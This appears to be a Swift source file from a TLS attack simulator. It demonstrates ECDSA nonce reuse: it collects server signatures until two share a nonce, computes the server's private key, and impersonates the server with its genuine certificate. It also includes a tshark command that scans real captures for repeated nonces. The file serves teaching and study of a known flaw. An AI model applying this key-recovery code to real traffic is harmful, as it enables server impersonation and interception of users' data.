import Crypto
import PKI
import Recordings
import Simulator
import TCPSim
import TLSSim
import Trace

/// Two signatures with the same nonce reveal the private key (PlayStation 3, 2010).
enum ECDSANonce: CaptureExhibit {
    static let card = Card(
        "ecdsa-nonce", in: .implementation, from: .onPath, to: .impersonate, variants: ["standard", "short"],
        unit: .handshakes,
        year: 2010,
        cites: [.rfc(6979, "3.2"), .rfc(5246, "7.4.3")], cves: ["CVE-2013-7372"], readsCaptures: true,
        words: ECDSANonceCard.self)

    /// The number of nonces from which the careless server chooses.
    private static func nonces(_ variant: String) -> Int { variant == "short" ? 1 << 6 : 1 << 10 }
    /// The number of handshakes after which she gives up. Without the rule fewer than one run in 10 million would need more.
    private static func patience(_ variant: String) -> Int { variant == "short" ? 46 : 180 }
    private static let suite = CipherSuite.ecdheECDSAAES128GCM

    /// The parts of a handshake that the attacker keeps. A handshake that ends after the signature serves her as well.
    private struct Signed {
        let offer: RecordedOffer
        let signature: ECDSA.Signature
        /// The digest that was signed, as a number.
        let digest: Integer
        let frames: [Int]
    }

    static func perform(_ show: Performance) throws -> Outcome {
        let stage = show.stage()
        let victims = try Victims(show, suite)
        let (client, server) = show.pair(on: stage)
        let nonces = nonces(show.variant)
        var count = 0
        stage.listen(server, port: 443) { _ in
            victims.server(
                // Half of the rule: the server chooses from twice as many nonces.
                count, configure: { $0.nonces = show.isWhole ? nil : show.isHalf ? 2 * nonces : nonces },
                answers: { _ in .ends([Array("200 OK".utf8)]) })
        }
        func visit(_ target: Socket) -> Int {
            count += 1
            return stage.connect(
                client, from: UInt16(49_999 + count), to: target,
                victims.client(
                    count, says: [Array("visit \(count), password: tangerine".utf8)],
                    configure: { $0.arithmetic = .live }))
        }
        let attacker = show.attacker(on: stage)

        var outcome = Outcome()
        outcome.theory = .repetition(nonces)
        outcome.evidence = [("server", .socket(Socket(.server, 443)))]
        outcome.say(ECDSANonceNote.waits)
        var seen: [Integer: Signed] = [:]
        var pair: (Signed, Signed)?
        while pair == nil, outcome.tries < patience(show.variant) {
            _ = visit(Socket(.server, 443))
            guard let signed = signatures(in: Recording(attacker.wait(.seconds(1)))).first else { break }
            outcome.tries += 1
            if let other = seen.updateValue(signed, forKey: signed.signature.r) { pair = (other, signed) }
        }
        outcome.connections = [0, count - 1]
        guard let key = key(of: pair, &outcome), let first = pair?.0 else { return outcome }
        show.find(outcome)
        if case .ecdsa(let own) = victims.cast.server.privateKey { outcome.truth = [("d", own.octets)] }

        // The next visit is led to her address. She shows the genuine certificate chain, and signs with its key.
        let identity = Identity(
            chain: first.offer.certificates, privateKey: .ecdsa(key), hostNames: [Visit.hostName])
        let random = attacker.random.fork("poses as the server")
        let hers = attacker.serve(at: 443) { _ in
            .attackersServer(in: show, identity: identity, suite: suite, random: random) { _ in
                .ends([Array("200 OK".utf8)])
            }
        }
        let last = visit(Socket(.attacker, 443))
        let frame = attacker.frame() + 1
        _ = attacker.wait(.seconds(2))
        let heard = hers().first?.heard ?? []
        outcome.reached = !heard.isEmpty && (stage.application(client, last) as? TLSProgram)?.parameters != nil
        outcome.evidence.append(("impersonated", .socket(Socket(.client, UInt16(49_999 + count)))))
        outcome.connections = [0, count - 2, count - 1]
        outcome.say(ECDSANonceNote.poses(heard), frames: [frame], cite: .rfc(5246, "7.4.3"))
        return outcome
    }

    /// Reads the handshakes of a recording until two signatures have the same nonce, and computes the key.
    static func attack(_ recording: Recording, variant: String, outcome: inout Outcome) {
        outcome.say(ECDSANonceNote.reads)
        var seen: [Integer: Signed] = [:]
        var pair: (Signed, Signed)?
        for signed in signatures(in: recording) where pair == nil {
            outcome.tries += 1
            if let other = seen.updateValue(signed, forKey: signed.signature.r) { pair = (other, signed) }
        }
        guard key(of: pair, &outcome) != nil else { return }
        outcome.reached = true
        outcome.say(ECDSANonceNote.couldPose, cite: .rfc(5246, "7.4.3"))
    }

    /// The private key of two signatures with the same nonce; nil if there is no such pair. Says in `outcome` what she has found.
    private static func key(of pair: (Signed, Signed)?, _ outcome: inout Outcome) -> EllipticCurvePrivateKey? {
        outcome.reproduce = [
            "tshark -r FILE -Y 'tls.handshake.type==12' -T fields -e tls.handshake.sig | tr -d : | cut -c9-72 | sort "
                + "| uniq -c | sort -n | tail -n 1"
        ]
        guard let (first, second) = pair else {
            outcome.say(ECDSANonceNote.noRepeat(outcome.tries), cite: .rfc(6979, "3.2"))
            return nil
        }
        outcome.say(
            ECDSANonceNote.repeats(outcome.tries), frames: first.frames + second.frames,
            [
                .init("r", first.signature.r.bigEndian), .init("s1", first.signature.s.bigEndian),
                .init("s2", second.signature.s.bigEndian), .init("z1", first.digest.bigEndian),
                .init("z2", second.digest.bigEndian),
            ])
        guard let key = key(first, second) else { return nil }
        outcome.say(ECDSANonceNote.computes, [.init("d", key.octets)])
        outcome.loot = [("d", key.octets)]
        return key
    }

    /// The signatures of ServerKeyExchange in a recording, in the order of the connections.
    private static func signatures(in recording: Recording) -> [Signed] {
        recording.offers.compactMap { offer in
            guard let exchange = offer.serverKeyExchange,
                let signature = try? ECDSA.Signature(der: exchange.signature)
            else { return nil }
            let signed = offer.clientHello.random + offer.serverHello.random + exchange.params.bytes
            return Signed(
                offer: offer, signature: signature,
                digest: Integer(bigEndian: HashAlgorithm.sha256.hash(signed)),
                frames: recording.frames(with: exchange.signature))
        }
    }

    /// The private key: k = (z1 - z2) / (s1 - s2) and d = (s1 · k - z1) / r, modulo the order n of the curve. With (r, s) also (r, n - s) is a
    /// valid signature, so both values of s2 are tried. Nil if neither gives the certified key.
    private static func key(_ one: Signed, _ two: Signed) -> EllipticCurvePrivateKey? {
        guard case .ecdsa(let certified)? = one.offer.certifiedKey else { return nil }
        let n = certified.curve.order
        for other in [two.signature.s, n - two.signature.s] {
            guard let difference = (one.signature.s - other).inverse(modulo: n),
                let r = one.signature.r.inverse(modulo: n)
            else { continue }
            let k = ((one.digest - two.digest) * difference).modulo(n)
            let d = ((one.signature.s * k - one.digest) * r).modulo(n)
            if let key = try? EllipticCurvePrivateKey(d, on: certified.curve), key.publicKey == certified { return key }
        }
        return nil
    }
}
